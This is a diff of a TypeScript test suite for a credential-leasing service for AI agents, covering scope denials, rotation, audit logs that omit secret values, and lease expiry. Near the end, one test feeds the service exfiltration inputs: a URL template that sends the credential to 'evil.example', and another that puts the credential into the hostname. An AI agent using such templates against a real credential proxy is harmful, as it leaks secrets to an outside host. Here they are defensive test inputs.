@@ -52,7 +52,11 @@ describe('KeyringService', () => {
   it('hands out the current value with a lease and audits it with a fingerprint, never the value', async () => {
     const clock = new FakeClock('2026-11-26T10:00:00Z');
     k = await createTestKeyring({ clock, anomaly: quiet });
-    const got = await k.service.getCredential(research, { name: 'scavio_api_key', scope: 'search_read', reason: 'search' });
+    const got = await k.service.getCredential(research, {
+      name: 'scavio_api_key',
+      scope: 'search_read',
+      reason: 'search',
+    });
     assert.equal(got.value.reveal(), k.values.scavio_api_key);
     assert.equal(got.version, 1);
     assert.equal(got.expires_in, 3600);
@@ -74,7 +78,9 @@ describe('KeyringService', () => {
     // Replace the audit file by a directory: every further write fails.
     fs.rmSync(k.auditPath);
     fs.mkdirSync(k.auditPath);
-    const e = await refusal(k.service.getCredential(research, { name: 'scavio_api_key', scope: 'search_read' }));
+    const e = await refusal(
+      k.service.getCredential(research, { name: 'scavio_api_key', scope: 'search_read' }),
+    );
     assert.equal(e.code, 'audit_unavailable');
     assertNoCanary(k, e.message);
     assertNoCanary(k, k.logger.lines.join('\n'));
@@ -86,11 +92,23 @@ describe('KeyringService', () => {
 
   it('refuses by policy before anomaly rules, and audits the denial', async () => {
     k = await createTestKeyring({ anomaly: quiet });
-    assert.equal((await refusal(k.service.getCredential(research, { name: 'nope', scope: 'x' }))).code, 'not_found');
+    assert.equal(
+      (await refusal(k.service.getCredential(research, { name: 'nope', scope: 'x' }))).code,
+      'not_found',
+    );
     // A name that is also an Object.prototype property must not resolve to it.
-    assert.equal((await refusal(k.service.getCredential(research, { name: 'constructor', scope: 'x' }))).code, 'not_found');
-    assert.equal((await refusal(k.service.getCredential(research, { name: 'npm_token', scope: 'publish' }))).code, 'agent_denied');
-    assert.equal((await refusal(k.service.getCredential(research, { name: 'scavio_api_key', scope: 'admin' }))).code, 'scope_denied');
+    assert.equal(
+      (await refusal(k.service.getCredential(research, { name: 'constructor', scope: 'x' }))).code,
+      'not_found',
+    );
+    assert.equal(
+      (await refusal(k.service.getCredential(research, { name: 'npm_token', scope: 'publish' }))).code,
+      'agent_denied',
+    );
+    assert.equal(
+      (await refusal(k.service.getCredential(research, { name: 'scavio_api_key', scope: 'admin' }))).code,
+      'scope_denied',
+    );
     const denials = auditLines(k).filter((e) => e.decision === 'deny');
     assert.deepEqual(
       denials.map((e) => e.code),
@@ -100,8 +118,17 @@ describe('KeyringService', () => {
 
   it('a claimed agent_id that is not the token’s agent is denied and alerted', async () => {
     const alerts: string[] = [];
-    k = await createTestKeyring({ anomaly: quiet, alerts: { alert: (a) => alerts.push(`${a.action}:${a.rules.join(',')}`) } });
-    const e = await refusal(k.service.getCredential(research, { name: 'scavio_api_key', scope: 'search_read', agent_id: 'release-agent' }));
+    k = await createTestKeyring({
+      anomaly: quiet,
+      alerts: { alert: (a) => alerts.push(`${a.action}:${a.rules.join(',')}`) },
+    });
+    const e = await refusal(
+      k.service.getCredential(research, {
+        name: 'scavio_api_key',
+        scope: 'search_read',
+        agent_id: 'release-agent',
+      }),
+    );
     assert.equal(e.code, 'anomaly_denied');
     assert.deepEqual(alerts, ['deny:agent_id_mismatch']);
     const [line] = auditLines(k).filter((x) => x.decision === 'deny');
@@ -152,7 +179,11 @@ describe('KeyringService', () => {
     const heard: string[] = [];
     k.service.onDidRotate((n) => heard.push(n));
     const next = 'canary-rotated-' + Math.random().toString(36).slice(2);
-    const r = await k.service.rotate('scavio_api_key', { value: new SecretValue(next), graceSeconds: 300, actor: 'cli' });
+    const r = await k.service.rotate('scavio_api_key', {
+      value: new SecretValue(next),
+      graceSeconds: 300,
+      actor: 'cli',
+    });
     assert.equal(r.version, 2);
     assert.equal(r.previous_version, 1);
     assert.ok(r.previous_valid_until);
@@ -171,19 +202,33 @@ describe('KeyringService', () => {
     const heard: string[] = [];
     k.service.onDidRotate((n) => heard.push(n));
     // Straight to the store, as another process would: the service did not do it.
-    await k.keyring.store.rotate('github_token', { value: new SecretValue('canary-elsewhere-1234'), graceSeconds: 0, actor: 'cli' });
+    await k.keyring.store.rotate('github_token', {
+      value: new SecretValue('canary-elsewhere-1234'),
+      graceSeconds: 0,
+      actor: 'cli',
+    });
     await new Promise((res) => setTimeout(res, 20));
     assert.deepEqual(heard, ['github_token']);
   });
 
   it('agents rotate only what lists them in rotation_agents; no value and no generator is no_generator', async () => {
     k = await createTestKeyring({ anomaly: quiet });
-    assert.equal((await refusal(k.service.rotateCredential(research, { name: 'scavio_api_key' }))).code, 'rotate_denied');
-    assert.equal((await refusal(k.service.rotateCredential(release, { name: 'npm_token' }))).code, 'no_generator');
+    assert.equal(
+      (await refusal(k.service.rotateCredential(research, { name: 'scavio_api_key' }))).code,
+      'rotate_denied',
+    );
+    assert.equal(
+      (await refusal(k.service.rotateCredential(release, { name: 'npm_token' }))).code,
+      'no_generator',
+    );
     const gen = await k.service.rotateCredential(research, { name: 'github_token' });
     assert.equal(gen.version, 2);
     const secret = 'canary-agent-rotate-5678';
-    const r = await k.service.rotateCredential(release, { name: 'npm_token', new_value: new SecretValue(secret), grace_seconds: 60 });
+    const r = await k.service.rotateCredential(release, {
+      name: 'npm_token',
+      new_value: new SecretValue(secret),
+      grace_seconds: 60,
+    });
     assert.equal(r.version, 2);
     assert.ok(!fs.readFileSync(k.auditPath, 'utf8').includes(secret));
   });
@@ -195,7 +240,24 @@ describe('KeyringService', () => {
     assert.equal(k.service.leases({ agentId: 'research-agent', activeOnly: true }).length, 0);
     assert.ok(k.service.leases({ agentId: 'research-agent' })[0].revoked_at);
     assert.equal(await k.service.authenticate(k.tokens['research-agent']), undefined);
-    assert.equal((await refusal(k.service.getCredential(research, { name: 'scavio_api_key', scope: 'search_read' }))).code, 'unauthorized');
+    assert.equal(
+      (await refusal(k.service.getCredential(research, { name: 'scavio_api_key', scope: 'search_read' })))
+        .code,
+      'unauthorized',
+    );
+  });
+
+  it('expired leases are swept from memory, at most once a minute', async () => {
+    const clock = new FakeClock('2026-11-26T10:00:00Z');
+    k = await createTestKeyring({ clock, anomaly: { ...quiet, burst_per_minute: 1000 } });
+    for (let i = 0; i < 5; i++) {
+      await k.service.getCredential(research, { name: 'github_token', scope: 'repo_read' }); // ttl 900 s
+    }
+    assert.equal(k.service.leases().length, 5);
+    clock.advance(901_000);
+    await k.service.getCredential(research, { name: 'github_token', scope: 'repo_read' });
+    assert.equal(k.service.leases().length, 1, 'the five expired leases are gone');
+    assert.equal(k.service.leases({ activeOnly: true }).length, 1);
   });
 
   it('list_credentials shows only what the agent may use, never values', async () => {
@@ -248,11 +310,24 @@ describe('KeyringService', () => {
       const host = await startUpstream();
       k = await createTestKeyring({ anomaly: quiet, allowedHosts: [host] });
       const base = { credential: 'scavio_api_key', scope: 'search_read', method: 'GET' };
-      assert.equal((await refusal(k.service.httpRequest(research, { ...base, url: 'https://evil.example/{{credential}}' }))).code, 'host_denied');
-      assert.equal((await refusal(k.service.httpRequest(research, { ...base, url: 'https://{{credential}}.example/' }))).code, 'invalid_input');
+      assert.equal(
+        (
+          await refusal(
+            k.service.httpRequest(research, { ...base, url: 'https://evil.example/{{credential}}' }),
+          )
+        ).code,
+        'host_denied',
+      );
+      assert.equal(
+        (await refusal(k.service.httpRequest(research, { ...base, url: 'https://{{credential}}.example/' })))
+          .code,
+        'invalid_input',
+      );
       upstream?.close();
       await new Promise((r) => setTimeout(r, 10));
-      const e = await refusal(k.service.httpRequest(research, { ...base, url: `http://${host}/?k={{credential}}` }));
+      const e = await refusal(
+        k.service.httpRequest(research, { ...base, url: `http://${host}/?k={{credential}}` }),
+      );
       assert.equal(e.code, 'upstream_error');
       assertNoCanary(k, e.message);
     });
